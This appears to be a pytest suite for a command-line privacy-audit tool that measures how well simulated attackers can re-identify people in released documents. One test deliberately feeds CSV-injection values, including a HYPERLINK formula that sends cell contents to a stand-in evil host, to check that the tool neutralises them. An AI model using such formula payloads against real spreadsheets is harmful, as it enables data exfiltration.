"""The ``cpa`` command line end to end (its parser and a toy audit in this process: tests/cli/test_main.py).

Every command that needs a real process is submitted at once by the module fixture ``runs`` (they
overlap on the available cores); tests then read the results. The error matrix runs ``main()`` in
this process (same code path, no second of start-up per case), with two cases also run as processes.
"""

from __future__ import annotations

import csv
import hashlib
import io
import json
import statistics
import tomllib

import numpy as np
import pandas as pd
import pytest
from audit_files import read_jsonl
from cli_checks import OUTPUT_FILES, assert_one_line_error, ok
from conftest import CliResult, toy_frames, write_table

SUMMARY_KEYS = ("coverage", "coverage_conditional", "candidate_miss_rate", "median_set_size", "mean_set_size",
                "top1", "mrr", "mean_leakage", "empty_rate", "q_hat", "n_cal", "n_test")
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def sha256(path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def sample_args(paths, out=None, *extra) -> list[str]:
    args = ["--documents", paths["documents"], "--registry", paths["registry"], "--config", paths["config"], *extra]
    return args + (["--out", out] if out is not None else [])


def imported_scores(paths, out_path) -> None:
    """A bring-your-own-attacker table over the sample documents: 10 candidates each, the truth
    among them (when it is in the registry) with a weight of varying concentration."""
    documents = pd.read_csv(paths["documents"], dtype=str, keep_default_na=False)
    registry_ids = pd.read_csv(paths["registry"], dtype=str, keep_default_na=False)["identity_id"].to_numpy()
    known = set(registry_ids.tolist())
    rng = np.random.default_rng(11)
    rows = []
    for doc, truth in zip(documents["doc_id"], documents["identity_id"]):
        others = [c for c in rng.choice(registry_ids, size=12, replace=False) if c != truth][:9]
        candidates = ([truth] if truth in known else []) + others
        weights = rng.dirichlet(np.full(len(candidates), 0.3))
        if truth in known:
            weights[0] += rng.uniform(0, 2)
        rows += [(doc, c, round(float(w), 6)) for c, w in zip(candidates, weights)]
    pd.DataFrame(rows, columns=["doc_id", "candidate_id", "score"]).to_csv(out_path, index=False)


@pytest.fixture(scope="module")
def runs(sample_paths, cli_pool, tmp_path_factory):
    """Start every subprocess of this module; ``runs[name]`` is ``(future, out)``."""
    base = tmp_path_factory.mktemp("cli")
    scores = base / "scores.csv"
    imported_scores(sample_paths, scores)
    missing = base / "does-not-exist.csv"

    def audit(out, *extra, attacker=("--attacker", "tfidf")):  # TF-IDF's audit (imported scores declare none)
        return ["audit", *sample_args(sample_paths, out, *attacker, *extra)]

    def stress(test, out, *extra):
        return ["stress", test, *sample_args(sample_paths, out, *extra)]

    plan = {  # name: (arguments, output path, run_cli keywords)
        "help": (["--help"], None, {"console_script": True}),
        "main": (audit(base / "main", "--knowledge", "K3"), base / "main", {}),
        "again": (audit(base / "again", "--knowledge", "K3"), base / "again", {}),
        "k1": (audit(base / "k1", "--knowledge", "K1"), base / "k1", {}),
        "imported": (audit(base / "imported", "--scores", scores, "--scores-kind", "probability", "--confidence",
                           "0.8", "--confidence", "0.9", "--flag-below", "11", attacker=()), base / "imported", {}),
        "topk": (stress("topk", None, "--ks", "5,50", "--confidence", "0.9"), None, {}),
        "drift": (stress("drift", base / "drift.csv", "--knowledge", "K3", "--test-knowledge", "K1",
                         "--confidence", "0.9"), base / "drift.csv", {}),
        "missing_file": (["audit", "--documents", missing, "--registry", sample_paths["registry"],
                          "--out", base / "never"], None, {}),
    }
    futures = {name: (cli_pool.submit(*args, **kwargs), out) for name, (args, out, kwargs) in plan.items()}
    futures["scores_file"] = (None, scores)
    return futures


def result_of(runs, name) -> tuple[CliResult, object]:
    future, out = runs[name]
    return future.result(), out


def read_json(path):
    return json.loads(path.read_text(encoding="utf-8"))


# ----------------------------------------------------------------------------------------------- help

def test_top_level_help(runs):
    result, _ = result_of(runs, "help")
    ok(result)
    for command in ("audit", "stress", "sample-data"):
        assert command in result.stdout


# ---------------------------------------------------------------------------------------------- audit

def test_audit_writes_every_output(runs):
    result, out = result_of(runs, "main")
    ok(result)
    for name in OUTPUT_FILES:
        assert (out / name).is_file() and (out / name).stat().st_size > 0, name


def test_summary_has_every_metric_per_level_and_group(runs, sample_paths):
    result, out = result_of(runs, "main")
    ok(result)
    declared = tomllib.loads(sample_paths["config"].read_text(encoding="utf-8"))["audit"]
    summary = read_json(out / "summary.json")
    levels = summary["confidence"]
    assert set(levels) == {str(c) for c in declared["confidence"]} == {"0.8", "0.9", "0.95"}
    groups = set(pd.read_csv(sample_paths["documents"], dtype=str, keep_default_na=False)["group"])
    for label, entry in levels.items():
        for key in SUMMARY_KEYS:
            assert key in entry, (label, key)
        # the release protocol: every labelled document but the temperature's tuning fold (a fifth, at most 200)
        # calibrates, every document is certified
        n = len(pd.read_csv(sample_paths["documents"]))
        assert entry["n_test"] == n and entry["n_cal"] == n - min(200, round(n / 5))
        assert 0 <= entry["coverage"] <= 1 and 0 <= entry["candidate_miss_rate"] <= 1
        assert set(entry["groups"]) == groups  # audit.toml declares group_column = "group"
        for group, metrics in entry["groups"].items():
            for key in SUMMARY_KEYS:
                assert key in metrics, (label, group, key)
        assert sum(m["n_test"] for m in entry["groups"].values()) == entry["n_test"]
        assert sum(m["n_cal"] for m in entry["groups"].values()) == entry["n_cal"]


def test_records_agree_with_the_summary(runs, sample_paths):
    result, out = result_of(runs, "main")
    ok(result)
    summary = read_json(out / "summary.json")["confidence"]
    test = read_jsonl(out / "documents.jsonl")
    assert len(test) == summary["0.9"]["n_test"] == len(pd.read_csv(sample_paths["documents"]))
    assert {r["certified_by"] for r in test} == {"leave-one-out: the other calibration documents",
                                                 "all calibration documents (its subject unknown, or in the "
                                                 "temperature's tuning fold)"}
    for label, entry in summary.items():
        sizes = [r["sets"][label]["set_size"] for r in test]
        assert statistics.median(sizes) == pytest.approx(entry["median_set_size"])
        assert np.mean(sizes) == pytest.approx(entry["mean_set_size"])
        assert np.mean([r["sets"][label]["covered"] for r in test]) == pytest.approx(entry["coverage"])
        assert np.mean([not r["in_pool"] for r in test]) == pytest.approx(entry["candidate_miss_rate"])
    record = test[0]
    for key in ("doc_id", "split", "group", "query", "identity_id", "in_pool", "true_rank", "true_score",
                "pool_size", "candidates", "sets"):
        assert key in record
    assert len(record["set"]) == max([level["set_size"] for level in record["sets"].values()
                                      if level["set_size"] < record["pool_size"]] + [0])  # the widest, once


def test_manifest_records_the_configuration(runs, sample_paths):
    result, out = result_of(runs, "main")
    ok(result)
    declared = tomllib.loads(sample_paths["config"].read_text(encoding="utf-8"))
    manifest = read_json(out / "manifest.json")
    assert manifest["inputs"]["documents"]["sha256"] == sha256(sample_paths["documents"])
    assert manifest["inputs"]["registry"]["sha256"] == sha256(sample_paths["registry"])
    level = "K3"  # given on the command line, over the file's default
    assert manifest["knowledge_fields"] == declared["knowledge"][level]["fields"]
    assert manifest["config"]["knowledge"]["name"] == level
    for key, value in declared["attacker"]["tfidf"].items():
        assert manifest["attacker"][key] == value, key
    assert manifest["attacker"]["attacker"] == "tfidf"
    assert manifest["score"] == declared["audit"]["score"]
    assert manifest["confidences"] == [str(c) for c in declared["audit"]["confidence"]]
    assert manifest["protocol"] == "release"
    n = len(pd.read_csv(sample_paths["documents"]))
    assert manifest["split"]["n_test"] == n and manifest["split"]["n_cal"] == n - 200  # the tuning fold
    assert manifest["seed"] == declared["audit"]["seed"]
    versions = manifest["versions"]
    for package in ("python", "numpy", "pandas", "scikit-learn"):
        assert versions.get(package), package
    assert manifest["config_id"] == read_json(out / "summary.json")["config_id"]


def check_worklist(out):
    rows = read_json(out / "worklist.json")
    keys = [(-round(r["linkage_probability"], 6), r["set_size"], str(r["doc_id"])) for r in rows]
    assert keys == sorted(keys), "worklist not sorted riskiest first (linkage probability, then set size)"
    with (out / "worklist.csv").open(encoding="utf-8", newline="") as handle:
        table = list(csv.DictReader(handle))
    assert [int(r["set_size"]) for r in table] == [r["set_size"] for r in rows]
    return rows, table


def test_worklist_is_sorted_riskiest_first(runs):
    for name in ("main", "imported"):
        result, out = result_of(runs, name)
        ok(result)
        check_worklist(out)
    rows, _ = check_worklist(result_of(runs, "imported")[1])
    assert len(rows) > 10 and len({r["set_size"] for r in rows}) > 2  # a non-trivial order was checked
    assert all(r["set_size"] < 11 or r["linkage_probability"] > 1 / 11 for r in rows)
    assert {r["flagged_by"] for r in rows} <= {"set", "linkage", "set+linkage"}
    assert len({r["confidence"] for r in rows}) == 1 and rows[0]["confidence"] in (0.8, 0.9)


def test_the_same_command_twice_gives_the_same_summary(runs):
    first, out_first = result_of(runs, "main")
    second, out_second = result_of(runs, "again")
    ok(first), ok(second)
    assert (out_first / "summary.json").read_bytes() == (out_second / "summary.json").read_bytes()
    for name in ("documents.jsonl", "worklist.csv"):
        assert (out_first / name).read_bytes() == (out_second / name).read_bytes(), name


def test_stronger_knowledge_gives_different_sets(runs):
    k1, out_k1 = result_of(runs, "k1")
    k3, out_k3 = result_of(runs, "main")
    ok(k1), ok(k3)
    s1, s3 = read_json(out_k1 / "summary.json"), read_json(out_k3 / "summary.json")
    assert s1["knowledge"] == "K1" and s3["knowledge"] == "K3"
    assert s1["config_id"] != s3["config_id"]
    medians = [(s1["confidence"][c]["median_set_size"], s3["confidence"][c]["median_set_size"])
               for c in s1["confidence"]]
    assert any(a != b for a, b in medians), medians
    assert s3["confidence"]["0.9"]["top1"] > s1["confidence"]["0.9"]["top1"]


def test_imported_scores(runs, sample_paths):
    result, out = result_of(runs, "imported")
    ok(result)
    _, scores = runs["scores_file"]
    summary, manifest = read_json(out / "summary.json"), read_json(out / "manifest.json")
    assert summary["attacker"] == "imported"
    assert manifest["attacker"]["kind"] == "probability"
    assert manifest["attacker"]["sha256"] == sha256(scores)
    entry = summary["confidence"]["0.9"]
    assert entry["top1"] > 0.3  # the truth gets extra weight in the table
    assert entry["candidate_miss_rate"] == pytest.approx(
        np.mean([not r["in_pool"] for r in read_jsonl(out / "documents.jsonl")]))
    assert entry["coverage"] >= 0.8


def test_the_cli_never_prints_document_text(runs, sample_paths):
    texts = pd.read_csv(sample_paths["documents"], dtype=str, keep_default_na=False)["text"].tolist()
    # not even a long fragment of one (60 characters, from the first 200 documents)
    fragments = [t[i:i + 60] for t in texts[:200] if len(t) >= 60 for i in range(0, len(t) - 59, 60)]
    for name in ("main", "k1", "imported", "topk", "drift", "missing_file"):
        result, _ = result_of(runs, name)
        output = result.output
        leaked = [t for t in texts if t in output]
        assert not leaked, f"{name}: printed document text {leaked[0][:60]!r}..."
        assert not [f for f in fragments if f in output], name


# --------------------------------------------------------------------------------------------- stress

def test_stress_topk_prints_a_table(runs):
    result, _ = result_of(runs, "topk")
    ok(result)
    lines = result.stdout.strip().splitlines()
    assert lines[0].split()[:2] == ["top_k", "confidence"] and "candidate_miss_rate" in lines[0]
    table = pd.read_csv(io.StringIO("\n".join(lines)), sep=r"\s+")
    assert table["top_k"].tolist() == [5, 50]
    miss = table["candidate_miss_rate"].tolist()
    assert miss[0] >= miss[1]  # a shorter shortlist misses the truth at least as often


def stress_inprocess(cli_inprocess, sample_paths, test, out, *extra):
    args = ["stress", test, *sample_args(sample_paths, out, *extra)]
    return ok(cli_inprocess(*args))


def test_stress_scores_prints_a_table(cli_inprocess, sample_paths):
    result = stress_inprocess(cli_inprocess, sample_paths, "scores", None, "--confidence", "0.9")
    table = pd.read_csv(io.StringIO(result.stdout.strip()), sep=r"\s+")
    assert table["score"].tolist() == ["aps", "rank", "probability"]
    assert (table["coverage"].between(0, 1)).all()


@pytest.mark.parametrize("name,extra,column,values", [
    ("ncal", ["--protocol", "split", "--n-cals", "100,300", "--n-test", "400"], "n_cal_declared", [100, 300]),
    ("seeds", ["--seeds", "0,1,2"], "confidence", [0.9]),
])
def test_stress_writes_csv(cli_inprocess, sample_paths, tmp_path, name, extra, column, values):
    out = tmp_path / "sub" / f"{name}.csv"
    result = stress_inprocess(cli_inprocess, sample_paths, name, out, *extra, "--confidence", "0.9")
    assert f"wrote {len(values)} rows to {out}" in result.stderr
    table = pd.read_csv(out)
    assert table[column].tolist() == values
    if name == "ncal":
        assert table["n_cal"].tolist() == [100, 300] and (table["n_test"] == 400).all()
    else:
        assert table["n_seeds"].tolist() == [3] and "coverage_std" in table.columns


def test_stress_drift(runs):
    result, out = result_of(runs, "drift")
    ok(result)
    table = pd.read_csv(out)
    assert table["calibration"].tolist() == ["drift (calibrated on A)", "own (recalibrated on B)"]
    assert table["calibrated_on"].nunique() == 1 and (table["calibrated_on"] != table["tested_on"]).all()


def test_stress_drift_to_other_documents_names_two_configurations(sample_paths, tmp_path):
    """Another release is another configuration: its checksum enters the id."""
    from conftest import run_cli_inprocess
    other = tmp_path / "other.csv"
    pd.read_csv(sample_paths["documents"]).iloc[::2].to_csv(other, index=False)
    result = run_cli_inprocess("stress", "drift", *sample_args(sample_paths, tmp_path / "drift.csv", "--knowledge", "K1",
                                                                "--confidence", "0.9", "--test-documents", other))
    ok(result)
    table = pd.read_csv(tmp_path / "drift.csv")
    assert table["calibrated_on"].nunique() == 1 and (table["calibrated_on"] != table["tested_on"]).all()


# ----------------------------------------------------------------------------------------- bad inputs

def test_missing_file_in_a_process(runs):
    result, _ = result_of(runs, "missing_file")
    assert_one_line_error(result, "does-not-exist.csv", "not found")


@pytest.fixture(scope="module")
def bad_inputs(tmp_path_factory, sample_paths):
    base = tmp_path_factory.mktemp("bad")
    docs = pd.read_csv(sample_paths["documents"], dtype=str, keep_default_na=False).head(60)
    files = {}
    files["wrong_columns"] = write_table(docs.rename(columns={"text": "body"}), base / "wrong_columns.csv")
    files["latin1"] = write_table(docs, base / "latin1.csv")  # UTF-8, then one Latin-1 row appended
    with files["latin1"].open("ab") as handle:
        handle.write("D09999,Seen at the caf\u00e9 on Tuesday,P0001,ner_masking\n".encode("latin-1"))
    duplicated = docs.copy()
    duplicated.loc[7, "doc_id"] = duplicated.loc[2, "doc_id"]
    files["duplicate"] = write_table(duplicated, base / "duplicate.csv")
    files["bad_toml"] = base / "bad.toml"
    files["bad_toml"].write_text("[knowledge.K1]\nfields = [\"city\"\n", encoding="utf-8")
    files["toml_confidence"] = base / "confidence.toml"
    files["toml_confidence"].write_text("[audit]\nconfidence = [0.9, 1.5]\n", encoding="utf-8")
    files["empty"] = base / "empty.csv"
    files["empty"].write_bytes(b"")
    files["out"] = base / "out"
    return files


def audit_args(sample_paths, out, documents=None, config=None, *extra):
    """A TF-IDF audit (an audit of imported scores with --scores)."""
    attacker = () if "--scores" in extra else ("--attacker", "tfidf")
    return ["audit", "--documents", documents or sample_paths["documents"], "--registry", sample_paths["registry"],
            "--config", config or sample_paths["config"], *attacker, *extra, "--out", out]


@pytest.mark.parametrize("case", ["wrong_columns", "latin1", "duplicate", "bad_toml", "unknown_level",
                                  "too_many", "confidence_cli", "confidence_toml", "empty", "rank_with_aps",
                                  "missing_config", "registry_as_documents", "drift_without_b", "bad_ks"])
def test_bad_input_gives_one_line(case, bad_inputs, sample_paths, cli_inprocess, tmp_path):
    out = tmp_path / "out"
    rank_scores = tmp_path / "ranks.csv"
    rank_scores.write_text("doc_id,candidate_id,score\nD00001,P0001,1\n", encoding="utf-8")
    cases = {
        "wrong_columns": (audit_args(sample_paths, out, bad_inputs["wrong_columns"]),
                          ["wrong_columns.csv", "'text'", "missing", "body"]),
        "latin1": (audit_args(sample_paths, out, bad_inputs["latin1"]), ["latin1.csv", "UTF-8", "line ", "0xe9"]),
        "duplicate": (audit_args(sample_paths, out, bad_inputs["duplicate"]),
                      ["duplicate.csv", "row 8", "'doc_id'", "row 3"]),
        "bad_toml": (audit_args(sample_paths, out, None, bad_inputs["bad_toml"]), ["bad.toml", "TOML"]),
        "unknown_level": (audit_args(sample_paths, out, None, None, "--knowledge", "K9"), ["'K9'", "K1"]),
        "too_many": (audit_args(sample_paths, out, None, None, "--protocol", "split", "--n-cal", "900", "--n-test", "900"),
                     ["1800", "1000"]),
        "confidence_cli": (audit_args(sample_paths, out, None, None, "--confidence", "1.5"), ["1.5"]),
        "confidence_toml": (audit_args(sample_paths, out, None, bad_inputs["toml_confidence"]), ["1.5"]),
        "empty": (audit_args(sample_paths, out, bad_inputs["empty"]), ["empty.csv", "empty"]),
        "rank_with_aps": (audit_args(sample_paths, out, None, None, "--scores", rank_scores, "--scores-kind", "rank"),
                          ["'aps'", "rank"]),
        "missing_config": (audit_args(sample_paths, out, None, tmp_path / "nope.toml"), ["nope.toml", "not found"]),
        "registry_as_documents": (audit_args(sample_paths, out, sample_paths["registry"]),
                                  ["registry.csv", "'doc_id'", "missing"]),
        "drift_without_b": (["stress", "drift", *audit_args(sample_paths, out)[1:-2]], ["drift"]),
        "bad_ks": (["stress", "topk", *audit_args(sample_paths, out)[1:-2], "--ks", "5,x"], ["5,x"]),
    }
    args, fragments = cases[case]
    result = cli_inprocess(*args)
    assert_one_line_error(result, *fragments)
    assert not (out / "summary.json").exists()


def test_drop_invalid_reports_on_stderr_without_text(bad_inputs, sample_paths, cli_inprocess, tmp_path):
    documents = pd.read_csv(sample_paths["documents"], dtype=str, keep_default_na=False).head(120)
    documents.loc[4, "text"] = "   "
    documents.loc[9, "doc_id"] = documents.loc[1, "doc_id"]
    path = write_table(documents, tmp_path / "some_invalid.csv")
    result = cli_inprocess(*audit_args(sample_paths, tmp_path / "out", path, None, "--drop-invalid",
                                       "--protocol", "split", "--n-cal", "50", "--n-test", "60"))
    ok(result)
    assert "dropped 2 of 120 rows" in result.stderr and "row 10" in result.stderr
    assert not any(t in result.output for t in documents["text"] if len(t.strip()) > 20)


# ------------------------------------------------------------------------------------- CSV injection

def test_formula_like_cells_are_neutralised_in_the_worklist_csv(tmp_path, cli_inprocess):
    documents, registry = toy_frames(n_people=12, docs_per_person=4, groups=("=SUM(A1:A9)", "@group"))
    prefixes = ['=HYPERLINK("http://evil.example/?x="&A1,"open")', "+", "-", "@"]
    documents["doc_id"] = [f"{prefixes[i % 4]}{i}" if i % 4 else f'=HYPERLINK("http://evil.example/{i}","x")'
                           for i in range(len(documents))]
    docs = write_table(documents, tmp_path / "docs.csv")
    reg = write_table(registry, tmp_path / "registry.csv")
    out = tmp_path / "out"
    result = cli_inprocess("audit", "--documents", docs, "--registry", reg, "--attacker", "tfidf",
                           "--fields", "city,occupation,keywords",
                           "--protocol", "split", "--n-cal", "20", "--n-test", "28", "--confidence", "0.8", "--flag-below", "1000",
                           "--group-column", "group", "--out", out)
    ok(result)
    with (out / "worklist.csv").open(encoding="utf-8", newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert len(rows) == 28
    originals = set(documents["doc_id"])
    kinds = set()
    for row in rows:
        for column, cell in row.items():
            assert not cell.startswith(FORMULA_STARTS), f"{column}: {cell!r} would run as a formula"
        assert row["doc_id"].startswith("'") and row["doc_id"][1:] in originals
        assert row["group"] in ("'=SUM(A1:A9)", "'@group")
        kinds.add(row["doc_id"][1])
    assert kinds == {"=", "+", "-", "@"}
    # the JSON worklist keeps the ids unchanged
    assert {r["doc_id"] for r in read_json(out / "worklist.json")} <= originals


# ------------------------------------------------------------------------------------- Mondrian column

@pytest.mark.parametrize("keep_group_column", [False, True])
def test_group_column_other_than_group(tmp_path, cli_inprocess, keep_group_column):
    """``--group-column ward`` stratifies by ward, also when the file has a ``group`` column as well."""
    documents, registry = toy_frames(n_people=12, docs_per_person=4)
    documents["ward"] = ["w1", "w2", "w3"] * 16
    if not keep_group_column:
        documents = documents.drop(columns="group")
    docs = write_table(documents, tmp_path / "docs.csv")
    reg = write_table(registry, tmp_path / "registry.csv")
    out = tmp_path / "out"
    result = ok(cli_inprocess("audit", "--documents", docs, "--registry", reg, "--attacker", "tfidf",
                              "--group-column", "ward",
                              "--protocol", "split", "--n-cal", "24", "--n-test", "24", "--confidence", "0.8", "--out", out))
    summary = read_json(out / "summary.json")
    assert set(summary["confidence"]["0.8"]["groups"]) == {"w1", "w2", "w3"}, result.describe()


def test_dry_run_counts_llm_calls_without_calling(tmp_path, monkeypatch):
    import subprocess
    import sys
    from pathlib import Path
    root = Path(__file__).resolve().parents[2]
    env = {**__import__("os").environ, "CPA_CACHE_DIR": str(tmp_path)}
    done = subprocess.run(
        [sys.executable, "-m", "cpa_core.cli", "audit", "--documents", str(root / "sample_data/documents.csv"),
         "--registry", str(root / "sample_data/registry.csv"), "--config", str(root / "sample_data/audit.toml"),
         "--knowledge", "K2", "--query-mode", "direct_plus_clues", "--llm-url", "http://127.0.0.1:9/v1",
         "--llm-model", "none", "--protocol", "split", "--n-cal", "100", "--n-test", "150", "--dry-run", "--out", str(tmp_path / "out")],
        capture_output=True, text=True, env=env, timeout=120)
    assert done.returncode == 0, done.stderr
    assert done.stdout.strip().startswith("250 LLM calls needed")  # one clue request per document, none sent
    assert not (tmp_path / "out").exists()
